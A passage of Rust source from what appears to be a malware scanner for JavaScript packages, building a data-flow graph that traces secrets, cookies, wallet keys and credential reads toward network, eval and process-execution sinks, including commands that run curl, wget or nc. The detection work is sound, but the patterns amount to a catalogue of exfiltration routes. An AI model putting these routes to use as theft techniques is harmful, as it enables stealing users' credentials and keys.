//! Builds one program's [`FileFlow`] (see [`crate::flow`]) from the oxc AST.
//!
//! One walk after the signal walk, reusing its folding environment ([`Env`]) so module
//! aliases, decoded names and computed members are already resolved. Every expression whose
//! value can carry data gets a node (memoised by span); declarations, assignments, returns,
//! calls and imports/exports add edges. What the builder knows about APIs:
//!
//! - **sources**: `process.env` (whole, or a secret-named variable), `os.hostname()`,
//!   `os.userInfo()`, `os.networkInterfaces()`, `process.cwd()`, host commands (`whoami`…),
//!   public-IP lookups, file reads (a credential path makes the read a credential, a package
//!   data file a package-data source), `document.cookie`, web storage, DOM queries for inputs
//!   and password/card fields, `submit`/key/clipboard events, `ethereum.request`, network
//!   responses, run-time decoding (`atob`, `Buffer.from(…, 'base64' | 'hex')`, char codes,
//!   inflate) and decryption;
//! - **sinks**: HTTP/`fetch`/XHR/WebSocket/socket writes and beacons, DOM `src`/`href`
//!   assignments, `dns.*`, process execution (with `detached`/ignored stdio noted; a command
//!   that runs `curl`/`wget`/`nc` is also a network send), `eval`/`Function`/`vm`/`_compile`,
//!   `require`/`import()` of a computed path, file writes;
//! - **transforms** (pass the value on, named in evidence): concatenation and templates,
//!   `JSON.stringify`, base64/hex, URL encoding, `reverse`, char codes, XOR, ciphers,
//!   compression; **sanitizers** (end the value): hashes, comparisons, `length`, `test`.
//!
//! Unknown library calls pass their arguments and receiver on to their result and to their
//! callbacks' parameters; calls of local functions are linked by the solver. Indirect calls
//! (`Reflect.apply(f, this, [a])`, `f.call(this, a)`, `f.apply(this, [a])`) are the call
//! `f(a)` when `f` folds to a module member, a global or a local function.

use super::deobfuscate::Prop;
use super::value::{Env, Val};
use super::visit::calls::{FS_READ, FS_WRITE, NET_MODULES, SPAWN_MODULES};
use crate::flow::{
    CallEdge, CallSite, FastMap, FileFlow, FuncInfo, Init, Node, SinkFact, SinkKind, SourceFact,
    SourceKind, Step, flags,
};
use crate::signal::Kind;
use oxc_ast::ast::*;
use oxc_ast_visit::{Visit, walk};
use oxc_span::GetSpan;
use oxc_syntax::operator::{AssignmentOperator, BinaryOperator};
use oxc_syntax::scope::ScopeFlags;
use oxc_syntax::symbol::SymbolId;

/// Most nodes per program; beyond it the builder stops adding (and says so).
const MAX_NODES: u32 = 400_000;
/// Deepest expression recursion the builder follows.
const MAX_DEPTH: u32 = 600;
/// Node 0 absorbs everything once the cap is hit and is never propagated from.
const VOID: Node = 0;

/// Local helper names of TypeScript/Babel/esbuild module interop that return their argument
/// (or a wrapper whose `default` is it).
pub(crate) const INTEROP: &[&str] = &[
    "__importDefault",
    "__importStar",
    "_interopRequireDefault",
    "_interopRequireWildcard",
    "_interop_require_default",
    "_interop_require_wildcard",
    "__toESM",
    "__toCommonJS",
    "__toModule",
];

/// Builds the flow graph of one program.
pub(crate) fn build(program: &Program<'_>, env: &Env<'_>, lines: Lines<'_>) -> FileFlow {
    let mut b = Builder {
        env,
        lines,
        f: FileFlow {
            nodes: 1,
            ..FileFlow::default()
        },
        vars: FastMap::default(),
        memo: FastMap::default(),
        funcs: FastMap::default(),
        stack: Vec::new(),
        depth: 0,
        func_syms: FastMap::default(),
        urls: 0,
        encoded: 0,
        plus_depth: 0,
        aliases: Vec::new(),
        classes: Vec::new(),
        signing: env
            .consts
            .values()
            .any(|v| matches!(v, Val::Module(m, _) if SIGNING_LIBRARIES.contains(&m.as_str()))),
    };
    b.visit_program(program);
    b.link_direct_calls();
    b.f
}

/// How offsets map to lines.
#[derive(Clone, Copy)]
pub(crate) enum Lines<'a> {
    /// Line starts of the real source.
    Real(&'a [u32]),
    /// Every offset is this line (decoded code placed at its literal).
    Fixed(u32),
}

struct Builder<'e, 's> {
    env: &'e Env<'s>,
    lines: Lines<'e>,
    f: FileFlow,
    vars: FastMap<SymbolId, Node>,
    memo: FastMap<(u32, u32, u8), Option<Node>>,
    /// Function index by span start.
    funcs: FastMap<u32, (u32, Node)>,
    /// Enclosing functions (return nodes).
    stack: Vec<Node>,
    depth: u32,
    /// Functions bound to a name (`function f`, `const f = () => …`): index by symbol.
    func_syms: FastMap<SymbolId, u32>,
    /// URL markers created so far (capped at [`MAX_URL_MARKERS`]).
    urls: u32,
    /// Encoded-text markers created so far (capped at [`MAX_ENCODED_MARKERS`]).
    encoded: u32,
    /// Depth of `+` expressions being built (see [`Builder::binary`]).
    plus_depth: u32,
    /// `(function symbol, name)`: names given to functions declared elsewhere, resolved
    /// once every declaration is known.
    aliases: Vec<(SymbolId, String)>,
    /// Enclosing classes: each one's node carries its methods (named by their keys), so
    /// `this.m(…)` inside the class reaches the method `m`.
    classes: Vec<Node>,
    /// The program loads a key-pair or signing library (see [`SIGNING_LIBRARIES`]): there
    /// `x.secretKey`/`x.privateKey` is key material whatever `x` is called.
    signing: bool,
}

/// Libraries that create or hold wallet key pairs; a module that loads one handles private
/// keys, so their `secretKey`/`privateKey` properties are key material on any receiver.
const SIGNING_LIBRARIES: &[&str] = &[
    "tweetnacl",
    "@noble/ed25519",
    "@noble/secp256k1",
    "@noble/curves",
    "elliptic",
    "secp256k1",
    "tiny-secp256k1",
    "ed25519-hd-key",
    "bip32",
    "bip39",
    "hdkey",
    "ecpair",
    "ethers",
    "web3",
    "viem",
    "@solana/web3.js",
    "bitcoinjs-lib",
    "ripple-keypairs",
    "xrpl",
    "@stellar/stellar-base",
    "stellar-sdk",
    "near-api-js",
    "ethereumjs-wallet",
    "@ethereumjs/wallet",
    "ethereum-cryptography",
];

/// Most URL markers per program: a bundle's URLs in docs and tables are not destinations.
const MAX_URL_MARKERS: u32 = 16;
/// Most [`SourceKind::EncodedText`] markers per program.
const MAX_ENCODED_MARKERS: u32 = 32;
/// Longest constant (bytes, or array elements) tried as encoded text.
const MAX_ENCODED_LEN: usize = 256 * 1024;

/// What the builder knows about a called API.
enum Api {
    /// An HTTP/socket/WebSocket client call: sends its arguments, returns a handle and data.
    Network,
    Dns,
    Spawn,
    Eval,
    FsRead,
    FsWrite,
    /// A write stream (`fs.createWriteStream(path)`).
    FsStream,
    Source(SourceKind),
    /// Decodes its arguments (the result is decoded data).
    Decode(&'static str),
    Decipher,
    /// Passes its arguments on, named.
    Transform(&'static str),
    /// Ends the value (hashes, numbers, booleans).
    Sanitize,
    /// Known API without data of interest (servers, timers with functions…): arguments pass.
    Other,
    /// A mail transport factory (`nodemailer.createTransport({ host })`): sends nothing itself
    /// but returns a handle whose `sendMail` sends to its SMTP host.
    MailTransport,
}

impl<'s> Builder<'_, 's> {
    fn line(&self, offset: u32) -> u32 {
        match self.lines {
            Lines::Fixed(l) => l,
            Lines::Real(starts) => starts.partition_point(|&s| s <= offset) as u32,
        }
    }

    fn node(&mut self) -> Node {
        if self.f.nodes >= MAX_NODES {
            self.f.truncated = true;
            return VOID;
        }
        self.f.nodes += 1;
        self.f.nodes - 1
    }

    fn edge(&mut self, from: Node, to: Node, what: &'static str, offset: u32) {
        if from == VOID || to == VOID || from == to {
            return;
        }
        let step = if what.is_empty() {
            Step::COPY
        } else {
            Step::new(self.line(offset), what)
        };
        self.f.edges.push((from, to, step));
    }

    fn source(&mut self, kind: SourceKind, offset: u32, detail: &str) -> Node {
        let n = self.node();
        if n == VOID {
            return VOID;
        }
        let idx = self.f.sources.len() as u32;
        self.f.sources.push(SourceFact {
            kind,
            line: self.line(offset),
            detail: crate::signal::truncate(detail, 120),
        });
        self.f.init.push((n, Init::Source(idx)));
        n
    }

    fn var(&mut self, sym: SymbolId) -> Node {
        if let Some(&n) = self.vars.get(&sym) {
            return n;
        }
        let n = self.node();
        self.vars.insert(sym, n);
        n
    }

    fn exports(&mut self) -> Node {
        if let Some(n) = self.f.exports {
            return n;
        }
        let n = self.node();
        self.f.exports = Some(n);
        n
    }

    /// A node holding every `parts` value (`None` when there are none).
    fn join(&mut self, parts: &[Option<Node>], what: &'static str, offset: u32) -> Option<Node> {
        let parts: Vec<Node> = parts.iter().flatten().copied().collect();
        match parts.as_slice() {
            [] => None,
            [one] if what.is_empty() => Some(*one),
            _ => {
                let n = self.node();
                for p in parts {
                    self.edge(p, n, what, offset);
                }
                Some(n)
            }
        }
    }

    // ---- functions -----------------------------------------------------------------------

    /// The function at `span` (created once): its index and a node holding it as a value.
    fn func(&mut self, span: u32, params: &FormalParameters<'_>) -> Node {
        if let Some(&(_, n)) = self.funcs.get(&span) {
            return n;
        }
        let mut nodes = Vec::new();
        let handler = is_request_handler(params);
        for (i, p) in params.items.iter().enumerate() {
            let n = match &p.pattern {
                BindingPattern::BindingIdentifier(id) => match id.symbol_id.get() {
                    Some(sym) => {
                        let v = self.var(sym);
                        if is_wallet_secret_name(&id.name) || self.signing && id.name == "secretKey"
                        {
                            let s = self.source(
                                SourceKind::WalletSecret,
                                span,
                                &format!("parameter `{}`", id.name),
                            );
                            self.edge(s, v, "", span);
                        }
                        v
                    }
                    None => self.node(),
                },
                other => {
                    let n = self.node();
                    self.bind(other, n, span);
                    n
                }
            };
            if let Some(init) = &p.initializer
                && let Some(v) = self.expr(init)
            {
                self.edge(v, n, "", span);
            }
            if handler && i == 0 {
                // `(req, res, next) => …`: the request a client sent (headers, body, query).
                let s = self.source(SourceKind::Request, span, "request of an HTTP handler");
                self.edge(s, n, "", span);
            }
            nodes.push(n);
        }
        if let Some(rest) = &params.rest {
            let n = self.node();
            self.bind(&rest.rest.argument, n, span);
            nodes.push(n);
        }
        let ret = self.node();
        let idx = self.f.funcs.len() as u32;
        self.f.funcs.push(FuncInfo {
            params: nodes,
            ret,
            names: Vec::new(),
        });
        let value = self.node();
        if value != VOID {
            self.f.init.push((value, Init::Func(idx)));
        }
        self.funcs.insert(span, (idx, value));
        value
    }

    fn ret_of(&self, span: u32) -> Option<Node> {
        let (idx, _) = self.funcs.get(&span)?;
        Some(self.f.funcs[*idx as usize].ret)
    }

    /// A synthetic function whose first parameter is `target` (a promise's `resolve`).
    fn resolver(&mut self, target: Node) -> Node {
        let idx = self.f.funcs.len() as u32;
        self.f.funcs.push(FuncInfo {
            params: vec![target],
            ret: VOID,
            names: Vec::new(),
        });
        let n = self.node();
        if n != VOID {
            self.f.init.push((n, Init::Func(idx)));
        }
        n
    }

    fn call_site(&mut self, callee: Node, args: Vec<Node>, result: Node, offset: u32) {
        self.method_site(callee, args, result, offset, None);
    }

    fn method_site(
        &mut self,
        callee: Node,
        args: Vec<Node>,
        result: Node,
        offset: u32,
        method: Option<&str>,
    ) {
        if callee == VOID {
            return;
        }
        let line = self.line(offset);
        self.f.calls.push(CallSite {
            callee,
            args,
            result,
            line,
            method: method.map(str::to_string),
        });
    }

    /// Notes that the function `value` (a function expression, or a name bound to one) is
    /// also known as `name` (stored under that property or exported as it).
    fn name_function(&mut self, value: &Expression<'_>, name: &str) {
        match value.without_parentheses() {
            Expression::FunctionExpression(f) => self.name_at(f.span.start, &f.params, name),
            Expression::ArrowFunctionExpression(a) => self.name_at(a.span.start, &a.params, name),
            Expression::Identifier(id) => {
                if let Some(sym) = self.env.symbol_of(id) {
                    self.aliases.push((sym, name.to_string()));
                }
            }
            _ => {}
        }
    }

    fn name_at(&mut self, span: u32, params: &FormalParameters<'_>, name: &str) {
        self.func(span, params);
        if let Some(&(idx, _)) = self.funcs.get(&span) {
            self.f.funcs[idx as usize].names.push(name.to_string());
        }
    }

    // ---- patterns ------------------------------------------------------------------------

    fn bind(&mut self, pat: &BindingPattern<'_>, from: Node, offset: u32) {
        match pat {
            BindingPattern::BindingIdentifier(id) => {
                if let Some(sym) = id.symbol_id.get() {
                    let v = self.var(sym);
                    self.edge(from, v, "", offset);
                    if is_wallet_secret_name(&id.name) {
                        let s = self.source(
                            SourceKind::WalletSecret,
                            offset,
                            &format!("`{}`", id.name),
                        );
                        self.edge(s, v, "", offset);
                    }
                }
            }
            BindingPattern::ObjectPattern(o) => {
                for p in &o.properties {
                    // `const { x } = o` reads a property.
                    let m = self.node();
                    self.edge(from, m, crate::flow::MEMBER, offset);
                    self.bind(&p.value, m, offset);
                }
                if let Some(r) = &o.rest {
                    self.bind(&r.argument, from, offset);
                }
            }
            BindingPattern::ArrayPattern(a) => {
                for p in a.elements.iter().flatten() {
                    self.bind(p, from, offset);
                }
                if let Some(r) = &a.rest {
                    self.bind(&r.argument, from, offset);
                }
            }
            BindingPattern::AssignmentPattern(a) => {
                self.bind(&a.left, from, offset);
                if let Some(d) = self.expr(&a.right) {
                    self.bind(&a.left, d, offset);
                }
            }
        }
    }

    fn assign_target(&mut self, t: &AssignmentTarget<'_>, from: Node, offset: u32) {
        if let Some(m) = t.as_member_expression() {
            self.store(m, from, offset);
            return;
        }
        match t {
            AssignmentTarget::AssignmentTargetIdentifier(id) => {
                if let Some(sym) = self.env.symbol_of(id) {
                    let v = self.var(sym);
                    self.edge(from, v, "", offset);
                } else if id.name == "exports" {
                    let e = self.exports();
                    self.edge(from, e, "", offset);
                }
            }
            AssignmentTarget::ObjectAssignmentTarget(o) => {
                for p in &o.properties {
                    match p {
                        AssignmentTargetProperty::AssignmentTargetPropertyIdentifier(i) => {
                            if let Some(sym) = self.env.symbol_of(&i.binding) {
                                let v = self.var(sym);
                                self.edge(from, v, "", offset);
                            }
                        }
                        AssignmentTargetProperty::AssignmentTargetPropertyProperty(pp) => {
                            self.assign_maybe_default(&pp.binding, from, offset);
                        }
                    }
                }
                if let Some(r) = &o.rest {
                    self.assign_target(&r.target, from, offset);
                }
            }
            AssignmentTarget::ArrayAssignmentTarget(a) => {
                for el in a.elements.iter().flatten() {
                    self.assign_maybe_default(el, from, offset);
                }
                if let Some(r) = &a.rest {
                    self.assign_target(&r.target, from, offset);
                }
            }
            _ => {}
        }
    }

    fn assign_maybe_default(
        &mut self,
        t: &AssignmentTargetMaybeDefault<'_>,
        from: Node,
        offset: u32,
    ) {
        match t {
            AssignmentTargetMaybeDefault::AssignmentTargetWithDefault(d) => {
                self.assign_target(&d.binding, from, offset);
            }
            other => {
                if let Some(t) = other.as_assignment_target() {
                    self.assign_target(t, from, offset);
                }
            }
        }
    }

    /// `obj.prop = value`: the object (field-insensitive) or the module's exports take it;
    /// DOM `src`/`href` and `location` assignments send it; `onmessage`-style handlers get
    /// the object's data as their parameters.
    fn store(&mut self, m: &MemberExpression<'_>, from: Node, offset: u32) {
        let prop = self.env.property_name(m, 0).unwrap_or_default();
        let obj = m.object();
        if self.is_exports(obj) || self.is_module(obj) && prop == "exports" {
            let e = self.exports();
            self.edge(from, e, "exported", offset);
            return;
        }
        let base = if self.env.worth_eval(obj) {
            self.env.eval(obj)
        } else {
            Val::Unknown
        };
        match &base {
            Val::Element(e)
                if matches!(prop.as_str(), "src" | "href" | "action" | "data")
                    && matches!(
                        e.as_str(),
                        "img" | "script" | "iframe" | "link" | "form" | "object" | "embed"
                    ) =>
            {
                self.sink(
                    SinkKind::Network,
                    offset,
                    &format!("<{e}>.{prop}"),
                    vec![from],
                    Some(from),
                    None,
                );
                return;
            }
            // `self.onfetch = (e) => …` in a service worker: the handler receives every
            // request the pages it controls make.
            Val::Global(g) if g == "globalThis" && prop == "onfetch" => {
                let s = self.source(SourceKind::Intercepted, offset, "onfetch handler");
                self.call_site(from, vec![s, s], VOID, offset);
                return;
            }
            Val::Global(g)
                if g == "location" && matches!(prop.as_str(), "href" | "search" | "hash")
                    || g == "globalThis" && prop == "location" =>
            {
                self.sink(
                    SinkKind::Network,
                    offset,
                    "location assignment",
                    vec![from],
                    Some(from),
                    None,
                );
                return;
            }
            _ => {}
        }
        let Some(b) = self.expr(obj) else { return };
        if let MemberExpression::ComputedMemberExpression(c) = m
            && let Some(k) = self.expr(&c.expression)
        {
            self.edge(k, b, "property", offset);
        }
        if prop.starts_with("on") && prop.len() > 2 {
            // `ws.onmessage = (e) => …`: the handler receives the object's data.
            self.call_site(from, vec![b, b], VOID, offset);
        }
        self.edge(from, b, "property", offset);
    }

    fn is_exports(&self, e: &Expression<'_>) -> bool {
        match e.without_parentheses() {
            Expression::Identifier(id) => id.name == "exports" && self.env.symbol_of(id).is_none(),
            Expression::StaticMemberExpression(m) => {
                m.property.name == "exports" && self.is_module(&m.object)
            }
            _ => false,
        }
    }

    fn is_module(&self, e: &Expression<'_>) -> bool {
        matches!(e.without_parentheses(), Expression::Identifier(id) if id.name == "module" && self.env.symbol_of(id).is_none())
    }

    // ---- sinks ---------------------------------------------------------------------------

    fn sink(
        &mut self,
        kind: SinkKind,
        offset: u32,
        detail: &str,
        data: Vec<Node>,
        dest: Option<Node>,
        dest_const: Option<String>,
    ) -> usize {
        let data: Vec<Node> = data.into_iter().filter(|n| *n != VOID).collect();
        let line = self.line(offset);
        self.f.sinks.push(SinkFact {
            kind,
            line,
            detail: crate::signal::truncate(detail, 120),
            data,
            dest: dest.filter(|d| *d != VOID),
            dest_const,
            receiver: None,
            needs: None,
            path_key: None,
            flags: 0,
        });
        self.f.sinks.len() - 1
    }

    // ---- expressions ---------------------------------------------------------------------

    fn expr(&mut self, e: &Expression<'_>) -> Option<Node> {
        let span = e.span();
        let key = (span.start, span.end, tag(e));
        if let Some(n) = self.memo.get(&key) {
            return *n;
        }
        if self.depth > MAX_DEPTH {
            return None;
        }
        self.depth += 1;
        let n = self.expr_inner(e);
        self.depth -= 1;
        self.memo.insert(key, n);
        n
    }

    fn expr_inner(&mut self, e: &Expression<'_>) -> Option<Node> {
        let at = e.span().start;
        match e {
            Expression::StringLiteral(s) => self.literal(s.value.as_str(), at),
            Expression::TemplateLiteral(t) => {
                let mut parts: Vec<Option<Node>> =
                    t.expressions.iter().map(|x| self.expr(x)).collect();
                // `importScripts(${url})` in worker source text: the worker loads `url`.
                for (i, q) in t.quasis.iter().enumerate() {
                    if ends_with_import_scripts(q.value.raw.as_str())
                        && let Some(Some(n)) = parts.get(i)
                    {
                        let n = *n;
                        self.import_scripts_sink(n, at);
                    }
                }
                if let Val::Str(s) = self.env.template(t, 0) {
                    parts.push(self.literal(&s, at));
                }
                self.join(&parts, "template", at)
            }
            Expression::Identifier(id) => self.ident(id, e),
            Expression::StaticMemberExpression(_)
            | Expression::ComputedMemberExpression(_)
            | Expression::PrivateFieldExpression(_) => self.member(e),
            Expression::CallExpression(c) => self.call(c),
            Expression::NewExpression(n) => self.new_expr(n),
            Expression::BinaryExpression(b) => self.binary(b, e),
            Expression::LogicalExpression(l) => {
                let parts = [self.expr(&l.left), self.expr(&l.right)];
                self.join(&parts, "", at)
            }
            Expression::ConditionalExpression(c) => {
                let test = self.expr(&c.test);
                let mut parts = vec![self.expr(&c.consequent), self.expr(&c.alternate)];
                // `px[i] < 128 ? 1 : 0`: a threshold turning a value into a bit (how image and
                // QR decoders read pixels) carries the compared value.
                let number = |e: &Expression<'_>| {
                    matches!(e.without_parentheses(), Expression::NumericLiteral(_))
                };
                if number(&c.consequent)
                    && number(&c.alternate)
                    && matches!(c.test.without_parentheses(), Expression::BinaryExpression(b)
                        if matches!(b.operator, BinaryOperator::LessThan | BinaryOperator::GreaterThan
                            | BinaryOperator::LessEqualThan | BinaryOperator::GreaterEqualThan)
                            && (number(&b.right) || number(&b.left)))
                {
                    let bit = self.node();
                    if let Some(t) = test {
                        self.edge(t, bit, "bit", at);
                    }
                    if let Expression::BinaryExpression(b) = c.test.without_parentheses() {
                        for side in [&b.left, &b.right] {
                            if let Some(n) = self.expr(side) {
                                self.edge(n, bit, "bit", at);
                            }
                        }
                    }
                    parts.push(Some(bit));
                }
                self.join(&parts, "", at)
            }
            Expression::SequenceExpression(s) => {
                let mut last = None;
                for x in &s.expressions {
                    last = self.expr(x);
                }
                last
            }
            Expression::ParenthesizedExpression(p) => self.expr(&p.expression),
            Expression::AwaitExpression(a) => self.expr(&a.argument),
            Expression::TSAsExpression(t) => self.expr(&t.expression),
            Expression::TSSatisfiesExpression(t) => self.expr(&t.expression),
            Expression::TSNonNullExpression(t) => self.expr(&t.expression),
            Expression::TSTypeAssertion(t) => self.expr(&t.expression),
            Expression::TSInstantiationExpression(t) => self.expr(&t.expression),
            Expression::ChainExpression(c) => {
                if let Some(n) = self.global_value(e) {
                    return n;
                }
                match &c.expression {
                    ChainElement::CallExpression(call) => self.call(call),
                    ChainElement::TSNonNullExpression(t) => self.expr(&t.expression),
                    other => {
                        let m = other.as_member_expression()?;
                        let b = self.expr(m.object());
                        if let MemberExpression::ComputedMemberExpression(cm) = m {
                            self.expr(&cm.expression);
                        }
                        b
                    }
                }
            }
            Expression::ArrayExpression(a) => {
                if let Some(n) = self.char_code_array(a, at) {
                    return Some(n);
                }
                let parts: Vec<Option<Node>> = a
                    .elements
                    .iter()
                    .map(|el| match el {
                        ArrayExpressionElement::SpreadElement(s) => self.expr(&s.argument),
                        ArrayExpressionElement::Elision(_) => None,
                        other => other.as_expression().and_then(|x| self.expr(x)),
                    })
                    .collect();
                self.join(&parts, "", at)
            }
            Expression::ObjectExpression(o) => self.object(o),
            Expression::FunctionExpression(f) => Some(self.func(f.span.start, &f.params)),
            Expression::ArrowFunctionExpression(a) => Some(self.func(a.span.start, &a.params)),
            Expression::AssignmentExpression(a) => self.assign(a),
            Expression::TaggedTemplateExpression(t) => {
                let parts: Vec<Option<Node>> =
                    t.quasi.expressions.iter().map(|x| self.expr(x)).collect();
                self.join(&parts, "template", at)
            }
            Expression::ImportExpression(i) => self.dynamic_import(i),
            Expression::YieldExpression(y) => y.argument.as_ref().and_then(|a| self.expr(a)),
            _ => None,
        }
    }

    /// Markers in a constant string: a URL, a credential store name.
    fn literal(&mut self, s: &str, at: u32) -> Option<Node> {
        if s.len() > 400 {
            return self.encoded_text(s, at);
        }
        if s.len() < 3 {
            return None;
        }
        let lower = s.get(..6).unwrap_or(s).to_ascii_lowercase();
        if self.urls < MAX_URL_MARKERS
            && (lower.starts_with("http:/")
                || lower.starts_with("https:")
                || lower.starts_with("ws://")
                || lower.starts_with("wss://"))
        {
            self.urls += 1;
            return Some(self.source(SourceKind::UrlLiteral, at, s));
        }
        if let Some(store) = credential_store(s) {
            return Some(self.source(SourceKind::CredentialName, at, &store));
        }
        // A package data file's name (`'logo.png'`, `'assets/data.bin'`): a read whose path
        // carries it, in whatever function, returns package data.
        if data_file_name(s) {
            return Some(self.source(SourceKind::DataFileName, at, s));
        }
        self.encoded_text(s, at)
    }

    /// An [`SourceKind::EncodedText`] marker for a constant that reads as text once hex- or
    /// base64-decoded (at most [`MAX_ENCODED_MARKERS`] per program).
    fn encoded_text(&mut self, s: &str, at: u32) -> Option<Node> {
        if self.encoded >= MAX_ENCODED_MARKERS
            || s.len() < crate::decode::MIN_ENCODED
            || s.len() > MAX_ENCODED_LEN
        {
            return None;
        }
        let text = crate::decode::hex_text(s).or_else(|| crate::decode::base64_text(s))?;
        self.encoded += 1;
        let detail = crate::signal::truncate(&text, 60);
        Some(self.source(SourceKind::EncodedText, at, &detail))
    }

    /// An [`SourceKind::EncodedText`] marker for a constant array of character codes that
    /// reads as text (`[104, 116, 116, 112, …]`).
    fn char_code_array(&mut self, a: &ArrayExpression<'_>, at: u32) -> Option<Node> {
        if self.encoded >= MAX_ENCODED_MARKERS
            || a.elements.len() < 8
            || a.elements.len() > MAX_ENCODED_LEN
            || !a
                .elements
                .iter()
                .all(|e| matches!(e, ArrayExpressionElement::NumericLiteral(_)))
        {
            return None;
        }
        let codes: Vec<f64> = a
            .elements
            .iter()
            .filter_map(|e| match e {
                ArrayExpressionElement::NumericLiteral(n) => Some(n.value),
                _ => None,
            })
            .collect();
        // Printable ASCII only: byte tables, colour tables and lookup tables are not text.
        if !codes
            .iter()
            .all(|&c| c.fract() == 0.0 && ((32.0..127.0).contains(&c) || c == 10.0))
        {
            return None;
        }
        let text = crate::decode::char_codes(&codes, 0)?;
        self.encoded += 1;
        let detail = crate::signal::truncate(&text, 60);
        Some(self.source(SourceKind::EncodedText, at, &detail))
    }

    fn ident(&mut self, id: &IdentifierReference<'_>, e: &Expression<'_>) -> Option<Node> {
        if let Some(sym) = self.env.symbol_of(id) {
            return Some(self.var(sym));
        }
        if id.name == "exports" {
            return Some(self.exports());
        }
        self.global_value(e).flatten()
    }

    /// Sources read from globals (`process.env`, `document.cookie`, storage…). `None` when
    /// `e` is not a global value; `Some(None)` for a global without data of interest.
    fn global_value(&mut self, e: &Expression<'_>) -> Option<Option<Node>> {
        if !self.env.worth_eval(e) {
            return None;
        }
        let at = e.span().start;
        let (kind, detail) = match self.env.eval(e) {
            Val::Global(g) => match g.as_str() {
                "process.env" => (SourceKind::EnvAll, g),
                g2 if g2.starts_with("process.env.") => {
                    let key = &g2["process.env.".len()..];
                    match env_key_kind(key) {
                        Some(k) => (k, g),
                        None => return Some(None),
                    }
                }
                "document.cookie" => (SourceKind::Cookie, g),
                "localStorage" | "sessionStorage" => (SourceKind::Storage, g),
                g2 if g2.starts_with("localStorage.") || g2.starts_with("sessionStorage.") => {
                    (SourceKind::Storage, g)
                }
                "document.forms" => (SourceKind::FormInput, g),
                "ethereum.selectedAddress" => (SourceKind::Wallet, g),
                _ => return Some(None),
            },
            // A member of one of the package's own modules (`cfg.remote` of
            // `require('./config')`) is that module's exported data: followed through the
            // import, not a library API.
            v @ Val::Module(..) if !is_external(&v) => return self.own_member(e),
            Val::Module(..) | Val::Element(_) => return Some(None),
            _ => return None,
        };
        Some(Some(self.source(kind, at, &detail)))
    }

    /// `cfg.remote.url` where `cfg` is one of the package's own modules (`require('./config')`):
    /// the module's exports reach the read along a [`crate::flow::OWN_MEMBER`] edge, which
    /// passes hidden constants only (see there).
    fn own_member(&mut self, e: &Expression<'_>) -> Option<Option<Node>> {
        let m = e.without_parentheses().as_member_expression()?;
        let b = match m.object().without_parentheses() {
            o @ (Expression::StaticMemberExpression(_)
            | Expression::ComputedMemberExpression(_)) => self.member(o),
            o => self.expr(o),
        }?;
        let r = self.node();
        self.edge(b, r, crate::flow::OWN_MEMBER, e.span().start);
        Some(Some(r))
    }

    fn member(&mut self, e: &Expression<'_>) -> Option<Node> {
        if let Some(n) = self.global_value(e) {
            return n;
        }
        let m = e.as_member_expression()?;
        if self.is_exports(e) {
            return Some(self.exports());
        }
        let prop = m.static_property_name();
        if matches!(prop, Some("length" | "size" | "byteLength")) {
            return None;
        }
        if let MemberExpression::ComputedMemberExpression(c) = m
            && self.env.worth_eval(m.object())
            && self.env.eval(m.object()) == Val::Global("process.env".into())
        {
            // `process.env[name]`: one variable whose name is not constant (proxy settings,
            // prefixed configuration), not the whole environment.
            self.expr(&c.expression);
            return Some(self.source(SourceKind::EnvSecret, e.span().start, "process.env[…]"));
        }
        let b = self.expr(m.object());
        if let MemberExpression::ComputedMemberExpression(c) = m {
            self.expr(&c.expression);
        }
        let key = prop.and_then(|prop| Some((key_material_member(m, prop, self.signing)?, prop)));
        if b.is_none() && key.is_none() {
            return None;
        }
        let r = self.node();
        if let Some(b) = b {
            // `res.headers.location`: the URL a server redirects to, marked so that rules can
            // tell a followed redirect from content.
            let redirect = prop == Some("location")
                && m.object()
                    .without_parentheses()
                    .as_member_expression()
                    .and_then(|o| o.static_property_name())
                    == Some("headers");
            if redirect {
                let mid = self.node();
                self.edge(b, mid, crate::flow::MEMBER, e.span().start);
                self.edge(mid, r, crate::flow::REDIRECT_TARGET, e.span().start);
            } else {
                self.edge(b, r, crate::flow::MEMBER, e.span().start);
            }
        }
        if let Some((owner, prop)) = key {
            // `keypair.secretKey`, `signer.privateKey`, `wallet.mnemonic.phrase`: the key
            // material of a key object, whatever the variable it lands in is called.
            let s = self.source(
                SourceKind::WalletSecret,
                e.span().start,
                &format!("{owner}.{prop}"),
            );
            self.edge(s, r, "", e.span().start);
        }
        Some(r)
    }

    fn binary(&mut self, b: &BinaryExpression<'_>, e: &Expression<'_>) -> Option<Node> {
        let at = b.span.start;
        let what = match b.operator {
            BinaryOperator::Addition => "concatenated",
            BinaryOperator::BitwiseXOR => "xor",
            BinaryOperator::Subtraction
            | BinaryOperator::Multiplication
            | BinaryOperator::Division
            | BinaryOperator::Remainder
            | BinaryOperator::BitwiseOR
            | BinaryOperator::BitwiseAnd
            | BinaryOperator::ShiftLeft
            | BinaryOperator::ShiftRight
            | BinaryOperator::ShiftRightZeroFill
            | BinaryOperator::Exponential => "",
            _ => {
                // Comparisons, `in`, `instanceof`: a boolean, no data.
                self.expr(&b.left);
                self.expr(&b.right);
                return None;
            }
        };
        // Fold a `+` chain once, at its top: folding every level would be quadratic.
        let plus = b.operator == BinaryOperator::Addition;
        let top = plus && self.plus_depth == 0;
        self.plus_depth += u32::from(plus);
        let mut parts = vec![self.expr(&b.left), self.expr(&b.right)];
        self.plus_depth -= u32::from(plus);
        // `'importScripts(' + JSON.stringify(url) + ')'`: worker source text that loads `url`.
        if plus
            && let Some(right) = parts[1]
            && last_literal(&b.left).is_some_and(ends_with_import_scripts)
        {
            self.import_scripts_sink(right, at);
        }
        if top
            && (has_string_operand(&b.left) || has_string_operand(&b.right))
            && let Val::Str(s) = self.env.binary(b, 0)
        {
            let _ = e;
            parts.push(self.literal(&s, at));
        }
        self.join(&parts, what, at)
    }

    /// A network sink for a URL spliced into worker source text after `importScripts(`: the
    /// worker built from that text fetches and runs the script (a Blob worker's loader).
    fn import_scripts_sink(&mut self, url: Node, at: u32) {
        self.sink(
            SinkKind::WorkerScript,
            at,
            IMPORT_SCRIPTS,
            vec![url],
            Some(url),
            None,
        );
    }

    fn object(&mut self, o: &ObjectExpression<'_>) -> Option<Node> {
        let at = o.span.start;
        let mut parts = Vec::new();
        for p in &o.properties {
            match p {
                ObjectPropertyKind::ObjectProperty(p) => {
                    parts.push(self.expr(&p.value));
                    if let Some(k) = p.key.static_name() {
                        self.name_function(&p.value, &k);
                    }
                    // esbuild's `__export(x, { name: () => name })` getters: the object
                    // also holds what the getter returns.
                    if let Expression::ArrowFunctionExpression(a) = &p.value
